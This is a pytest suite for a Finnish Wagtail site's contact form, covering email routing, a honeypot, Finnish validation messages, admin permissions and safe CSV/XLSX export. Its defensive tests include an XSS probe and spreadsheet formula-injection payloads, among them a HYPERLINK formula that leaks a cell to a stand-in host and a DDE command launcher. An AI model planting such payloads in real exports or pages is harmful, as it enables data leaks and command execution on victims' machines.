import pytest
from django.core import mail
from wagtail.contrib.forms.models import FormSubmission

from home.models import ContactPage, PracticeSettings

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def committing(emails_sent):
    """The enquiry notice leaves through the task queue after the commit (home/outbox.py)."""


URL = "/ota-yhteytta/"
VALID = {
    "nimi": "Maija Meikäläinen",
    "sahkoposti": "maija@example.fi",
    "puhelin": "040 123 4567",
    "organisaatio": "Esimerkin kaupunki",
    "palvelu": "Työnohjaus",
    "viesti": "Haluaisimme ryhmätyönohjausta kuudelle hengelle.",
}


def test_enquiry_is_emailed_to_the_practitioner_and_the_sender_is_thanked(client, home_page):
    response = client.post(URL, VALID)
    assert response.status_code == 200
    assert "Kiitos viestistäsi" in response.content.decode()
    assert FormSubmission.objects.filter(page__slug="ota-yhteytta").count() == 1
    assert len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == ["tyonohjaus@example.fi"]
    assert message.reply_to == ["maija@example.fi"]
    assert message.subject == "Yhteydenotto verkkosivuilta"
    assert "Maija Meikäläinen" in message.body and "ryhmätyönohjausta" in message.body
    assert "Jätä tämä kenttä tyhjäksi" not in message.body


def test_enquiry_goes_to_the_notification_address_when_one_is_set(client, home_page):
    settings = PracticeSettings.objects.get()
    settings.notification_email = "ilmoitukset@example.fi"
    settings.save()
    client.post(URL, VALID)
    assert mail.outbox[0].to == ["ilmoitukset@example.fi"]


def test_the_form_pages_own_address_wins(client, home_page):
    page = ContactPage.objects.get(locale__language_code="fi")
    page.to_address = "tarjoukset@example.fi"
    page.save_revision().publish()
    client.post(URL, VALID)
    assert mail.outbox[0].to == ["tarjoukset@example.fi"]


def test_honeypot_rejects_a_bot_without_saving_or_mailing(client, home_page):
    response = client.post(URL, {**VALID, "website": "http://spam.example"})
    assert response.status_code == 200
    assert "Lomaketta ei voitu lähettää" in response.content.decode()
    assert FormSubmission.objects.count() == 0
    assert mail.outbox == []


def test_bad_input_is_shown_next_to_the_fields_in_finnish_and_keeps_what_was_typed(client, home_page):
    response = client.post(URL, {**VALID, "nimi": "", "sahkoposti": "ei-osoite"})
    html = response.content.decode()
    assert response.status_code == 200
    assert "Korjaa alla merkityt virheet." in html
    assert 'id="id_nimi_error"' in html and "Tämä kenttä on pakollinen." in html
    assert "Syötä kelvollinen sähköpostiosoite." in html
    assert 'aria-invalid="true"' in html
    assert "ryhmätyönohjausta kuudelle hengelle" in html  # what was typed is kept
    assert FormSubmission.objects.count() == 0
    assert mail.outbox == []


def test_form_warns_against_sensitive_data_and_links_the_privacy_policy(client, home_page):
    html = client.get(URL).content.decode()
    assert "Älä lähetä lomakkeella asiakkaisiin liittyviä" in html
    assert 'href="/tietosuojaseloste/"' in html


def test_unknown_preselected_service_is_ignored(client, home_page):
    response = client.get(URL, {"palvelu": "<script>alert(1)</script>"})
    assert response.status_code == 200
    assert "<script>alert(1)</script>" not in response.content.decode()


def test_the_service_list_starts_empty_and_a_supervision_form_preselects_work_supervision(client, home_page):
    html = client.get(URL).content.decode()
    assert '<option value="" selected>– valitse –</option>' in html
    form_page_html = client.get("/palvelut/tyonohjaus/ryhmatyonohjaus/").content.decode()
    assert 'href="/ota-yhteytta/?palvelu=Ty%C3%B6nohjaus"' in form_page_html
    assert (
        '<option value="Työnohjaus" selected>' in client.get(URL, {"palvelu": "Työnohjaus"}).content.decode()
    )


def test_an_enquiry_without_a_service_is_accepted(client, home_page):
    response = client.post(URL, {**VALID, "palvelu": ""})
    assert "Kiitos viestistäsi" in response.content.decode()


@pytest.mark.parametrize(
    ("permissions", "allowed"), [((), False), (("wagtailforms.view_formsubmission",), True)]
)
def test_enquiries_are_shown_only_to_users_with_the_permission(
    client, home_page, django_user_model, permissions, allowed
):
    from django.urls import reverse

    from tests.factories import make_editor

    client.post(URL, VALID)
    client.force_login(make_editor(django_user_model, permissions=permissions))
    contact = ContactPage.objects.get(locale__language_code="fi")
    for url in (
        reverse("wagtailforms:list_submissions", args=[contact.pk]),
        reverse("wagtailforms:list_submissions", args=[contact.pk]) + "?export=csv",
    ):
        response = client.get(url)
        if allowed:
            assert response.status_code == 200
            body = b"".join(response.streaming_content) if response.streaming else response.content
            assert "Maija" in body.decode()
        else:  # Wagtail refuses with a redirect to the dashboard and a message
            assert response.status_code == 302 and response["Location"] == "/admin/"


def test_a_preview_of_changed_fields_neither_reads_nor_leaves_the_kept_form(client, rf, home_page):
    from django.contrib.auth.models import AnonymousUser

    from home.models import ContactFormField

    assert "Luonnoskenttä" not in client.get(URL).content.decode()  # the live blank form is kept now
    draft = ContactPage.objects.get(slug="ota-yhteytta")
    draft.form_fields.add(ContactFormField(label="Luonnoskenttä", field_type="singleline"))
    request = rf.get(URL)
    request.is_preview, request.user = True, AnonymousUser()
    preview = draft.serve(request)
    preview.render()
    assert "Luonnoskenttä" in preview.content.decode()
    assert "Luonnoskenttä" not in client.get(URL).content.decode()


# Issue 11: enquiries in the admin


def export(client, contact, kind):
    from django.urls import reverse

    response = client.get(reverse("wagtailforms:list_submissions", args=[contact.pk]) + f"?export={kind}")
    assert response.status_code == 200
    return response, b"".join(response.streaming_content) if response.streaming else response.content


HOSTILE = {
    "nimi": '=HYPERLINK("http://example.invalid/?leak="&A1;"Avaa")',
    "organisaatio": "+SUM(1,2)",
    "viesti": "@cmd|' /C calc'!A0",
    "puhelin": "-1-1",
}


def test_an_enquiry_export_never_runs_what_the_visitor_typed(admin_client, home_page):
    import csv
    import io

    contact = ContactPage.objects.get(locale__language_code="fi")
    FormSubmission.objects.create(page=contact, form_data={**VALID, **HOSTILE})
    FormSubmission.objects.create(page=contact, form_data=VALID)
    response, raw = export(admin_client, contact, "csv")
    assert raw.startswith(b"\xef\xbb\xbf")  # Finnish Excel, as the registrations export
    header, *rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    hostile, plain = sorted(rows, key=lambda row: row[header.index("Puhelin")])
    for name, value in HOSTILE.items():
        label = next(field.label for field in contact.form_fields.all() if field.clean_name == name)
        assert hostile[header.index(label)] == "'" + value
    assert plain[header.index("Puhelin")] == "040 123 4567"
    assert 'filename="kysy-tarjousta-ota-yhteytta-' in response["Content-Disposition"]


def test_an_enquiry_xlsx_holds_text_not_formulas(admin_client, home_page):
    import io

    import openpyxl

    contact = ContactPage.objects.get(locale__language_code="fi")
    FormSubmission.objects.create(page=contact, form_data={**VALID, **HOSTILE})
    _response, raw = export(admin_client, contact, "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(raw))
    sheet = workbook.active
    assert sheet.title == "Kysy tarjousta ota yhteyttä"
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    assert set(HOSTILE.values()) <= texts
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_the_enquiries_listing_counts_in_finnish_and_downloads(admin_client, home_page):
    from django.urls import reverse

    contact = ContactPage.objects.get(locale__language_code="fi")
    for _number in range(3):
        FormSubmission.objects.create(page=contact, form_data=VALID)
    page = admin_client.get(reverse("wagtailforms:list_submissions", args=[contact.pk])).content.decode()
    assert "3 yhteydenottoa" in page
    assert "Lataa CSV" in page and "Hae CSV" not in page


def test_the_thank_you_page_thanks_once(client, home_page):
    response = client.post(URL, VALID)
    main = response.content.decode().split("<main", 1)[1].split("</main>", 1)[0]
    assert main.count("Kiitos viestistäsi") == 1
    assert "kahden arkipäivän kuluessa" in main


def test_the_error_summary_links_each_error_to_its_field(client, home_page):
    import re

    html = client.post(URL, {**VALID, "nimi": "", "sahkoposti": "ei-osoite"}).content.decode()
    summary = html[html.index('class="form-errors"') :]
    summary = summary[: summary.index("</div>")]
    links = dict(re.findall(r'<a href="#([^"]+)">([^<]+)</a>', summary))
    assert set(links) == {"id_nimi", "id_sahkoposti"}
    assert "Tämä kenttä on pakollinen." in links["id_nimi"]
    assert 'id="id_nimi"' in html and 'id="id_sahkoposti"' in html
